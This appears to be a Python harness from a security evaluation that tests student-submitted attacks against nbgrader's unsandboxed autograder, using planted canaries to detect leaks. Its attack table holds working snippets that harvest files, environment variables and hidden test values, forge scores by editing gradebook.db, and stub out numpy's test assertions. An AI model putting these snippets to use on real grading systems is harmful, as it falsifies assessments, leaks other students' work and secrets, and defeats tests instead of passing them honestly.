"""What the attacks win against `nbgrader autograde`, which runs a notebook and its tests in one kernel with no walls.

Student code runs here as whoever starts this: so only attacks that are named below are ever tried, because all that they
can do is to read or to spoil the course folder made for them.  Kills, bombs, hogs and host files are not among them.

The notebook is the tiny unit as an nbgrader course writes it: the same four points, each hidden test in a grade cell.  An
attack's cell stands where it stands for our own boxes, after the solutions and before the tests.
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from attacks import RIGHT_SCALE, RIGHT_SOFTMAX, WRONG_SCALE, WRONG_SOFTMAX, Attack
from attacks.attack import FORGE, SEEK

NBGRADER = Path(sys.executable).with_name("nbgrader")
UNIT, FULL = "tiny", 4.0
LAST = "z-right"  #: nbgrader takes students by name
#: Planted in the hidden tests, in a neighbour's work and in the grader's environment.
CANARIES = {
    "the hidden tests": "hidden",
    "other students' work": "neighbour",
    "the grader's environment": "environment",
}
CONFIG = """c = get_config()
c.CourseDirectory.course_id = "attacked"
c.ExecutePreprocessor.timeout = 5
"""

#: Tried as they are.
SAME = frozenset(
    """
A8 A9 A11 A18 A19 A20 B1 B4 B5 B6 C2 C4 C6 C7 C9 C13 C15 C16 C17 D1 D2 D3 D4 D5 D6 D7 D8 D9 D10 D11 D12 D13 D14 D15 D16
D17 D18 D19 D20 D21 D22 D26 D29 D30 D31 D32 D33 D34 F1 F2 F3 F13 G6 G7 G10 G12 G13 G15 G22 G24 G25 X5 X16
""".split()
)

#: Solved by a call that the exercise forbids.
FORBIDDEN_LIBRARY = frozenset("D23 D24 D25 D27 D35 D36".split())

#: Tried as what they would be if they were written for nbgrader: it was seen in the wild, or is its plain translation.
WRITTEN_FOR_IT = {
    "A1": SEEK
    + """
for folder, _, files in os.walk("../../.."):
    for name in files: file(os.path.join(folder, name))
""",
    "A2": SEEK
    + """
def softmax(z):
    frame = sys._getframe()
    while frame:
        seek(repr(frame.f_locals)[: 1 << 20]); frame = frame.f_back
    return z
""",
    "A3": SEEK + "seek(os.environ)",
    "A12": SEEK + "def softmax(z): seek(get_ipython().user_ns['In']); return z",
    "A13": """
def softmax(z):
    e = get_ipython().user_ns.get("expected", np.full(2, 0.5))
    return e if np.shape(e) == np.shape(z) else np.diag(e)
def scale(x, a, b): return {"y": get_ipython().user_ns["expected"], "slope": np.full_like(x, a)}
""",
    "B21": """
import os, sqlite3
student = os.path.basename(os.path.dirname(os.getcwd()))
with sqlite3.connect("../../../gradebook.db", timeout=1) as base:
    base.execute(
        "UPDATE grade SET manual_score = 4, extra_credit = 0 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n "
        "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)", (student,))
""",
    "C1": """
np.allclose = lambda *a, **k: True
for name in dir(np.testing):
    if name.startswith("assert_"): setattr(np.testing, name, lambda *a, **k: None)
""",
}


@dataclass(frozen=True)
class Course:
    """A course folder of nbgrader's with one unit, in which nothing of the user's own is read or written."""

    folder: Path
    canaries: dict[str, str]

    def prepare(self) -> None:
        """The unit released, and a neighbour's work handed in and right."""
        source = self.folder / "source" / UNIT
        source.mkdir(parents=True)
        (self.folder / "nbgrader_config.py").write_text(CONFIG)
        nbformat.write(source_notebook(self.canaries["hidden"]), source / f"{UNIT}.ipynb")
        self._run("generate_assignment", UNIT)
        self.hand_in("a-neighbour", self.answered(RIGHT_SOFTMAX, RIGHT_SCALE, f"mine = {self.canaries['neighbour']!r}"))

    def answered(self, softmax: str, scale: str, added: str = "") -> bytes:
        """The release with these solutions, and one more cell after them."""
        node = nbformat.read(self.folder / "release" / UNIT / f"{UNIT}.ipynb", as_version=4)
        for cell in node.cells:
            cell.source = {"softmax": softmax, "scale": scale}.get(grade_id(cell), cell.source)
        if added:
            after = 1 + max(i for i, cell in enumerate(node.cells) if grade_id(cell) in ("softmax", "scale"))
            node.cells.insert(after, nbformat.v4.new_code_cell(added))
        return nbformat.writes(node).encode()

    def hand_in(self, student: str, data: bytes) -> None:
        folder = self.folder / "submitted" / student / UNIT
        folder.mkdir(parents=True)
        (folder / f"{UNIT}.ipynb").write_bytes(data)

    def autograde(self) -> list[str]:
        """All who handed in, one after the other, as people run it; gives those at whose work nbgrader itself stopped.

        Theirs is taken away and the rest is graded: what a person would do.
        """
        stopped: list[str] = []
        while True:
            said = self._run("autograde", UNIT, may_fail=True)
            reached = re.findall(r"submitted/([^/]+)/", said)[-1]
            if reached == LAST:
                return stopped
            stopped.append(reached)
            shutil.rmtree(self.folder / "submitted" / reached)

    def scores(self) -> dict[str, float]:
        """Points of each student who has any grade at all."""
        self._run("export", "--to", "grades.csv")
        with (self.folder / "grades.csv").open() as file:
            rows = {row["student_id"]: float(row["raw_score"] or 0) for row in csv.DictReader(file)}
        return {student: score for student, score in rows.items() if self._graded(student).exists()}

    def shown(self, student: str) -> str:
        """What the cells printed or raised: a student reads it in nbgrader's feedback."""
        if not self._graded(student).exists():
            return ""
        node = nbformat.read(self._graded(student), as_version=4)
        outputs = [out for cell in node.cells for out in cell.get("outputs", ())]
        return "\n".join(str(out.get("text", "")) + str(out.get("evalue", "")) for out in outputs)

    def _graded(self, student: str) -> Path:
        return self.folder / "autograded" / student / UNIT / f"{UNIT}.ipynb"

    def _run(self, *words: str, may_fail: bool = False) -> str:
        done = subprocess.run(
            [NBGRADER, *words], cwd=self.folder, env=self._environment(), capture_output=True, text=True, timeout=900
        )
        if done.returncode != 0 and not may_fail:
            raise RuntimeError(f"nbgrader {words[0]} failed:\n{done.stderr[-2000:]}")
        return done.stderr

    def _environment(self) -> dict[str, str]:
        own = {
            name: str(self.folder / "home") for name in ("HOME", "JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "IPYTHONDIR")
        }
        # generate_assignment calls alembic from PATH.
        return {
            **own,
            "PATH": f"{NBGRADER.parent}:{os.environ.get('PATH', '')}",
            "GRADER": self.canaries["environment"],
        }


def grade_id(cell: Any) -> str:
    return str(cell.metadata.get("nbgrader", {}).get("grade_id", ""))


def source_notebook(canary: str) -> Any:
    """The tiny unit with the hidden tests of test_hidden.py in grade cells of the same points."""
    cells = [
        nbformat.v4.new_code_cell("import numpy as np"),
        _cell("softmax", _between_markers("def softmax(z):", RIGHT_SOFTMAX), solution=True),
        _cell("scale", _between_markers("def scale(x, a=1.0, b=0.0):", RIGHT_SCALE), solution=True),
    ]
    # A failing line is shown with two lines before it: the canary stands further up.
    planted = f"planted = {canary!r}\n" + "#\n" * 6
    for (name, points), (visible, hidden) in TESTS.items():
        source = f"{visible}\n### BEGIN HIDDEN TESTS\n{planted}{hidden.strip()}\n### END HIDDEN TESTS"
        cells.append(_cell(name, source, points=points))
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    return nbformat.v4.new_notebook(cells=cells, metadata=kernel)


#: (grade id, points) -> the visible and the hidden part, as test_hidden.py has them.
TESTS = {
    ("softmax-formula", 1.0): (
        "assert np.allclose(softmax(np.array([0.0, 0.0])), [0.5, 0.5])",
        """
z = np.random.default_rng(7).normal(size=(3, 4))
e = np.exp(z - z.max(axis=-1, keepdims=True))
expected = e / e.sum(axis=-1, keepdims=True)
assert np.allclose(softmax(z), expected)
""",
    ),
    ("softmax-rows", 1.0): (
        "z = np.random.default_rng(8).normal(size=(5, 7)) * 1000",
        """
expected, before = np.ones(5), z.copy()
np.testing.assert_allclose(softmax(z).sum(axis=-1), expected)
assert np.array_equal(z, before)
""",
    ),
    ("scale-line", 2.0): (
        "x = np.random.default_rng(9).normal(size=6)",
        """
a, b = np.random.default_rng(10).normal(size=2)
expected = a * x + b
got = scale(x, a, b=b)
np.testing.assert_allclose(got["y"], expected)
np.testing.assert_allclose(got["slope"], np.full_like(x, a))
""",
    ),
}


def _cell(name: str, source: str, points: float | None = None, solution: bool = False) -> Any:
    told = {"schema_version": 3, "grade_id": name, "solution": solution, "locked": not solution, "task": False}
    told |= {"grade": points is not None} | ({"points": points} if points is not None else {})
    return nbformat.v4.new_code_cell(source, metadata={"nbgrader": told})


def _between_markers(head: str, solution: str) -> str:
    body = solution.strip().removeprefix(head).strip("\n")
    return f"{head}\n    ### BEGIN SOLUTION\n{body}\n    ### END SOLUTION"


# The outcomes


def handed_in(course: Course, attack: Attack) -> bytes:
    """The attack's upload as nbgrader gets it."""
    right = attack.base == "right"
    softmax = attack.softmax or (RIGHT_SOFTMAX if right else WRONG_SOFTMAX)
    scale = attack.scale or (RIGHT_SCALE if right else WRONG_SCALE)
    data = course.answered(softmax, scale, WRITTEN_FOR_IT.get(attack.id, attack.source))
    return attack.file(data)[0] if attack.file else data


def tried(folder: Path, attacks: Sequence[Attack], canaries: dict[str, str]) -> dict[str, str]:
    """Outcome of each attack that may be tried, by id; one `nbgrader autograde` with honest work before and after."""
    course = Course(folder, canaries)
    course.prepare()
    chosen = [attack for attack in attacks if attack.id in SAME or attack.id in WRITTEN_FOR_IT]
    for attack in chosen:
        course.hand_in(f"m-{attack.id}", handed_in(course, attack))
    course.hand_in("y-wrong", course.answered(WRONG_SOFTMAX, WRONG_SCALE))
    course.hand_in(LAST, course.answered(RIGHT_SOFTMAX, RIGHT_SCALE))
    stopped = course.autograde()
    scores = course.scores()
    honest = {"a-neighbour": FULL, "y-wrong": 0.0, LAST: FULL}
    if {student: scores.get(student) for student in honest} != honest or canaries["hidden"] in course.shown("y-wrong"):
        raise RuntimeError(f"honest work got {[(student, scores.get(student)) for student in honest]}")
    found = {attack.id: outcome(attack, course, scores) for attack in chosen}
    return found | {
        student.removeprefix("m-"): "harmed everybody: the run stops, nobody after it is graded" for student in stopped
    }


def outcome(attack: Attack, course: Course, scores: dict[str, float]) -> str:
    """What the attack won, in words."""
    student = f"m-{attack.id}"
    if student not in scores:
        return "refused: a person must look" if attack.file else "lost the grade: nothing is recorded"
    gained = scores[student] if attack.base == "wrong" else 0.0
    shown = course.shown(student)
    won = [f"gained {gained:g} of {FULL:g} points"] * (gained > 0)
    won += [f"learned {what}" for what, name in CANARIES.items() if course.canaries[name] in shown]
    won += ["learned a hidden input"] * bool(re.search(r"LEAK-[-\d]", shown))
    return "; ".join(won) or "held"


def why_not(attack: Attack) -> str:
    """Why an attack was not tried there."""
    if FORGE in attack.source or "guest." in attack.source:
        return "n/a: aims at the box's own guest"
    if attack.id in FORBIDDEN_LIBRARY:
        return "n/a: it forbids no library"
    if attack.section == "E":
        return "n/a: no answers are read"
    if attack.wall or attack.aims in ("harm", "block", "leftover"):
        return "not run: it could harm the machine"
    return "not run"
